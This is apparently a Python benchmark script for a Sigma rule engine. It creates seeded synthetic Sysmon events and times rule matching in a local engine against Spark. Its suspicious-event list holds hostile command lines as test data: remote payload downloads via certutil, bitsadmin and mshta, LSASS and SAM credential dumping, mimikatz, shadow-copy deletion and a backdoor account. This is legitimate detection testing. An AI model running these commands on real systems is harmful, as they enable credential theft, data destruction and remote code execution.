"""Local Spark (``sigmarrow.spark.match``) against the single-process engine, same data.

Generates synthetic Sysmon process-creation events (seeded), writes them as Parquet,
compiles the Windows process-creation rules of the pinned SigmaHQ snapshot, and times:

- engine, 1 thread and all threads: ``Matcher.match`` on the table already in memory
  (reading the Parquet is timed apart);
- Spark ``local[N]``: ``sigmarrow.spark.match(spark.read.parquet(...))`` grouped by rule,
  a cold run (Python workers start and load the program) and warm runs; plus a no-op
  ``mapInArrow`` over the same projected columns, which is Spark's own floor.

Every Spark run's hits per rule must equal the engine's, and once the full set of
(event, rule) hits is compared. The result goes to
``benches/results/spark-<date>-<events>-events.json`` with the machine, versions and the command.

    python benches/bench_spark.py                      # 200,000 events
    python benches/bench_spark.py --events 20000 --rules path/to/rules
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import os
import random
import shlex
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq
import pyspark
import sigmarrow
import sigmarrow.spark
from _common import best_of, machine  # benches/ is on sys.path when run as a script

REPO_DIR = Path(__file__).resolve().parents[1]
SIGMA_DIR = Path(os.environ.get("SIGMARROW_SIGMA_DIR", REPO_DIR.parent / "shared" / "sigma"))
DEFAULT_RULES = SIGMA_DIR / "rules" / "windows" / "process_creation"
RESULTS_DIR = REPO_DIR / "benches" / "results"

# --- synthetic events --------------------------------------------------------------------

SYS32 = "C:\\Windows\\System32\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
USERS = [f"CORP\\{name}" for name in ("alice", "bob", "carol", "dave", "svc_backup", "admin")]
BENIGN = [
    (
        SYS32 + "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}",
        SYS32 + "services.exe",
    ),
    (
        SYS32 + "conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        SYS32 + "cmd.exe",
    ),
    (
        SYS32 + "cmd.exe",
        "C:\\Windows\\system32\\cmd.exe /c echo {n} > C:\\temp\\out{n}.txt",
        "C:\\Windows\\explorer.exe",
    ),
    (CHROME, f'"{CHROME}" --type=renderer --lang=en-US --renderer-client-id={{n}}', CHROME),
    (
        SYS32 + "taskhostw.exe",
        "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}",
        SYS32 + "svchost.exe",
    ),
    (
        WINWORD,
        f'"{WINWORD}" /n "C:\\Users\\{{user}}\\Documents\\report{{n}}.docx"',
        "C:\\Windows\\explorer.exe",
    ),
    (
        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -File C:\\scripts\\inventory{n}.ps1",
        SYS32 + "svchost.exe",
    ),
    (
        SYS32 + "notepad.exe",
        '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\{user}\\notes.txt',
        "C:\\Windows\\explorer.exe",
    ),
    (SYS32 + "git.exe", "git.exe fetch origin --prune", SYS32 + "cmd.exe"),
    (SYS32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", SYS32 + "services.exe"),
    (
        SYS32 + "SearchProtocolHost.exe",
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}',
        SYS32 + "SearchIndexer.exe",
    ),
    (
        SYS32 + "wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
        SYS32 + "svchost.exe",
    ),
]
SUSPICIOUS = [
    (SYS32 + "whoami.exe", "whoami /priv", SYS32 + "cmd.exe"),
    (
        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        SYS32 + "cmd.exe",
    ),
    (SYS32 + "net.exe", "net user backdoor P@ssw0rd{n} /add", SYS32 + "cmd.exe"),
    (SYS32 + "reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", SYS32 + "cmd.exe"),
    (
        SYS32 + "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\temp\\lsass.dmp full",
        SYS32 + "cmd.exe",
    ),
    (
        SYS32 + "certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.{m}/a.exe a.exe",
        SYS32 + "cmd.exe",
    ),
    (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", SYS32 + "cmd.exe"),
    (
        SYS32 + "schtasks.exe",
        "schtasks /create /tn Updater{n} /tr C:\\Users\\Public\\upd.exe /sc minute /mo 5",
        SYS32 + "cmd.exe",
    ),
    (
        SYS32 + "mshta.exe",
        'mshta.exe javascript:a=GetObject("script:http://x/{n}.sct").Exec()',
        WINWORD,
    ),
    (
        SYS32 + "bitsadmin.exe",
        "bitsadmin /transfer job{n} /download /priority high http://x/p.exe C:\\temp\\p.exe",
        SYS32 + "cmd.exe",
    ),
    (SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy delete", SYS32 + "cmd.exe"),
    (
        "C:\\Users\\Public\\mimikatz.exe",
        'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        SYS32 + "cmd.exe",
    ),
]
ORIGINAL = {
    "powershell.exe": "PowerShell.EXE",
    "cmd.exe": "Cmd.Exe",
    "net.exe": "net.exe",
    "rundll32.exe": "RUNDLL32.EXE",
    "reg.exe": "reg.exe",
    "whoami.exe": "whoami.exe",
}


def make_events(n: int, seed: int = 7, suspicious_share: float = 0.05) -> pa.Table:
    rng = random.Random(seed)
    cols: dict[str, list] = {
        k: []
        for k in (
            "event_id",
            "EventID",
            "UtcTime",
            "ProcessId",
            "Image",
            "OriginalFileName",
            "CommandLine",
            "CurrentDirectory",
            "User",
            "IntegrityLevel",
            "Hashes",
            "ParentProcessId",
            "ParentImage",
            "ParentCommandLine",
            "Computer",
        )
    }
    base = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
    for i in range(n):
        pool = SUSPICIOUS if rng.random() < suspicious_share else BENIGN
        image, template, parent = rng.choice(pool)
        user = rng.choice(USERS)
        cmd = template.format(
            n=rng.randrange(100000),
            m=rng.randrange(1, 255),
            svc=rng.choice(["Schedule", "BITS", "Winmgmt", "gpsvc"]),
            user=user.split("\\")[1],
        )
        name = image.rsplit("\\", 1)[1]
        cols["event_id"].append(i)
        cols["EventID"].append(1)
        cols["UtcTime"].append(
            (base + dt.timedelta(milliseconds=37 * i)).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        )
        cols["ProcessId"].append(rng.randrange(100, 65000))
        cols["Image"].append(image)
        cols["OriginalFileName"].append(ORIGINAL.get(name.lower(), name))
        cols["CommandLine"].append(cmd)
        cols["CurrentDirectory"].append(
            rng.choice(["C:\\Windows\\system32\\", f"C:\\Users\\{user.split(chr(92))[1]}\\"])
        )
        cols["User"].append(user)
        cols["IntegrityLevel"].append(rng.choice(["Medium", "High", "System"]))
        cols["Hashes"].append(
            f"SHA256={rng.getrandbits(256):064X},IMPHASH={rng.getrandbits(128):032X}"
        )
        cols["ParentProcessId"].append(rng.randrange(100, 65000))
        cols["ParentImage"].append(parent)
        cols["ParentCommandLine"].append(parent if rng.random() < 0.5 else f'"{parent}"')
        cols["Computer"].append(f"ws{rng.randrange(500):04d}.corp.example")
    ints = {
        "event_id": pa.int64(),
        "EventID": pa.int64(),
        "ProcessId": pa.int64(),
        "ParentProcessId": pa.int64(),
    }
    return pa.table({k: pa.array(v, ints.get(k, pa.string())) for k, v in cols.items()})


# --- measuring ---------------------------------------------------------------------------


def git_commit() -> str:
    try:
        out = subprocess.run(
            ["git", "describe", "--always", "--dirty"],
            cwd=REPO_DIR,
            capture_output=True,
            text=True,
            check=True,
        )
        return out.stdout.strip()
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def java_version() -> str:
    try:
        out = subprocess.run(["java", "-version"], capture_output=True, text=True, check=False)
        return (out.stderr or out.stdout).splitlines()[0]
    except (OSError, IndexError):
        return "unknown"


def command_line(argv: list[str] | None) -> str:
    script = os.path.relpath(Path(__file__).resolve(), REPO_DIR)
    args = sys.argv[1:] if argv is None else argv
    return " ".join(["python", script, *map(shlex.quote, args)])


def start_spark(master: str):
    os.environ["PYSPARK_PYTHON"] = sys.executable
    os.environ["PYSPARK_DRIVER_PYTHON"] = sys.executable
    os.environ.setdefault("JAVA_TOOL_OPTIONS", "-XX:-UsePerfData")
    from pyspark.sql import SparkSession

    spark = (
        SparkSession.builder.master(master)
        .appName("sigmarrow-bench")
        .config("spark.ui.enabled", "false")
        .config("spark.ui.showConsoleProgress", "false")
        .config("spark.driver.host", "127.0.0.1")
        .config("spark.driver.bindAddress", "127.0.0.1")
        .config("spark.driver.memory", "4g")
        .config("spark.sql.shuffle.partitions", "2")
        .getOrCreate()
    )
    spark.sparkContext.setLogLevel("ERROR")
    return spark


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument(
        "--rules",
        type=Path,
        default=DEFAULT_RULES,
        help=f"rule file or folder (default {DEFAULT_RULES})",
    )
    parser.add_argument("--master", default="local[2]")
    parser.add_argument("--files", type=int, default=8, help="Parquet files to write")
    parser.add_argument("--runs", type=int, default=3, help="timed runs per setup (best is kept)")
    parser.add_argument("--out", type=Path, default=RESULTS_DIR)
    args = parser.parse_args(argv)

    start = time.perf_counter()
    matcher = sigmarrow.compile(args.rules)
    compile_s = time.perf_counter() - start
    print(
        f"compiled {len(matcher.rules)} rules ({len(matcher.errors)} errors) in {compile_s:.1f} s"
    )

    start = time.perf_counter()
    events = make_events(args.events)
    print(f"generated {events.num_rows} events in {time.perf_counter() - start:.1f} s")

    report: dict = {
        "benchmark": "spark",
        "date": dt.datetime.now(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "command": command_line(argv),
        "machine": machine(),
        "versions": {
            "commit": git_commit(),
            "sigmarrow": getattr(sigmarrow, "__version__", "?"),
            "pyspark": pyspark.__version__,
            "pyarrow": pa.__version__,
            "java": java_version(),
        },
        "rules": {
            "path": os.path.relpath(args.rules.resolve(), REPO_DIR),
            "compiled": len(matcher.rules),
            "errors": len(matcher.errors),
        },
        "events": events.num_rows,
        "results": [],
    }

    def record(setup: str, seconds: float, all_runs: list[float], hits: int, **extra) -> None:
        row = {
            "setup": setup,
            "seconds": round(seconds, 3),
            "runs": [round(t, 3) for t in all_runs],
            "events_per_s": round(events.num_rows / seconds),
            "hits": hits,
            **extra,
        }
        report["results"].append(row)
        print(f"{setup:<34} {seconds:8.2f} s {row['events_per_s']:>12,} events/s  hits {hits}")

    with tempfile.TemporaryDirectory(prefix="sigmarrow-bench-") as tmp:
        data_dir = Path(tmp) / "events"
        ds.write_dataset(
            events,
            data_dir,
            format="parquet",
            max_rows_per_file=-(-events.num_rows // args.files),
            max_rows_per_group=-(-events.num_rows // args.files),
            file_options=ds.ParquetFileFormat().make_write_options(compression="zstd"),
        )

        read_s, read_runs, table = best_of(args.runs, lambda: pq.read_table(data_dir))
        record("pyarrow read_parquet (all columns)", read_s, read_runs, 0)

        expected = None
        for threads in (1, None):
            seconds, runs, hits = best_of(
                args.runs, lambda t=threads: matcher.match(table, threads=t)
            )
            if expected is None:
                expected = hits
            assert hits.equals(expected), "engine results differ between thread counts"
            label = "engine 1 thread" if threads else f"engine {machine()['cores']} threads"
            record(label, seconds, runs, hits.num_rows)
        keys = table.column("event_id").take(expected.column("row")).to_pylist()
        expected_set = set(zip(keys, expected.column("rule_id").to_pylist(), strict=True))
        expected_per_rule = Counter(expected.column("rule_id").to_pylist())
        report["rules_hit"] = len(expected_per_rule)

        start = time.perf_counter()
        spark = start_spark(args.master)
        report["spark_startup_s"] = round(time.perf_counter() - start, 1)
        try:
            df = spark.read.parquet(str(data_dir))
            partitions = df.rdd.getNumPartitions()
            report["spark_partitions"] = partitions

            def spark_per_rule() -> Counter:
                result = sigmarrow.spark.match(df, matcher, columns=["event_id"])
                rows = result.groupBy("rule_id").count().collect()
                return Counter({r["rule_id"]: r["count"] for r in rows})

            start = time.perf_counter()
            cold = spark_per_rule()
            cold_s = time.perf_counter() - start
            assert cold == expected_per_rule, "Spark hits per rule differ from the engine's"
            record(
                f"spark {args.master} cold",
                cold_s,
                [cold_s],
                sum(cold.values()),
                partitions=partitions,
            )
            seconds, runs, warm = best_of(args.runs, spark_per_rule)
            assert warm == expected_per_rule, "Spark hits per rule differ from the engine's"
            record(
                f"spark {args.master} warm",
                seconds,
                runs,
                sum(warm.values()),
                partitions=partitions,
            )

            # Spark's own floor: the same projection through a mapInArrow that drops it all.
            needed = [
                c
                for c in df.columns
                if c in set(matcher.fields)
                or (matcher.has_keywords and dict(df.dtypes)[c] == "string")
            ]

            def noop(batches):
                for _ in batches:
                    pass
                return iter(())

            def spark_noop() -> int:
                return df.select(*needed).mapInArrow(noop, "n long").count()

            seconds, runs, _ = best_of(args.runs, spark_noop)
            record(f"spark {args.master} no-op mapInArrow", seconds, runs, 0, columns=len(needed))

            full = sigmarrow.spark.match(df, matcher, columns=["event_id"]).collect()
            got = {(r["event_id"], r["rule_id"]) for r in full}
            assert len(full) == len(got) and got == expected_set, (
                "Spark hits differ from the engine's"
            )
            report["hits_checked"] = "per rule in every run; full (event, rule) set once"
        finally:
            spark.stop()

    report["load_average_at_end"] = [round(x, 2) for x in os.getloadavg()]
    args.out.mkdir(parents=True, exist_ok=True)
    path = args.out / f"spark-{report['date'][:10]}-{events.num_rows}-events.json"
    path.write_text(json.dumps(report, indent=2) + "\n")
    print(f"wrote {os.path.relpath(path)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
